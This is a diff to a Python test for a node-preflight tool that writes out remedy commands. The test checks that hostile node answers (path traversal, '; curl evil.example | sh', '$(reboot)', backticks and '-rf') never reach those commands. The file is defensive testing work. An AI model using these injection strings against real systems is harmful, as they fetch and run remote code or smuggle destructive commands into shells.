@@ -198,17 +198,16 @@ def test_preflight_tells_what_a_node_says_as_text(tmp_path):
 
 def test_a_command_of_preflight_has_no_word_that_a_node_made_up(tmp_path):
     good = "/home/pi/.local/lib/python3.11/site-packages/torchvision"
-    bad = ["/", "/etc", f"{good}/../../..", "/home/../etc/.local/lib/python3.1/site-packages/syft"]
-    worse = [f"{good}; curl evil.example | sh", "$(reboot)/syft", "-rf", f"`{good}`"]
-
-    def remedies(*stray: str) -> dict[str, str]:
-        answer = "\n".join(["@ root", "yes", "@ stray", good, *stray, "@ end", ""])
-        found = judged(tmp_path, pi1=a_node(answer=answer))["findings"]
-        return {one["finding"]: one["remedy"] for one in found}
-
-    assert f"`sudo rm -r {good}`" in remedies(*bad)["stray-python"]
-    for word in worse:
-        assert list(remedies(word)) == ["malformed"] and "evil" not in str(remedies(word))
+    bad = ["/", "/etc", f"{good}/../../..", f"{good}; curl evil.example | sh", "$(reboot)/syft",
+           "/home/../etc/.local/lib/python3.1/site-packages/syft", "-rf", f"`{good}`"]  # fmt: skip
+    home = "/home/pi; curl evil.example | sh"
+    answer = "\n".join(["@ root", "yes", "@ home", home, "@ stray", good, *bad, "@ end", ""])
+    remedies = {
+        one["finding"]: one["remedy"]
+        for one in judged(tmp_path, pi1=a_node(answer=answer))["findings"]
+    }
+    assert f"`sudo rm -r {good}`" in remedies["stray-python"]
+    assert "evil" not in "".join(remedies.values())
     unreachable = judged(tmp_path, pi1=a_node(unreachable=True))["findings"][0]["remedy"]
     words = shlex.split(unreachable.split("`")[1])
     assert words == ["ansible", "-i", "/tmp/it's here", "-m", "ping", "pi1", "-vvv"]
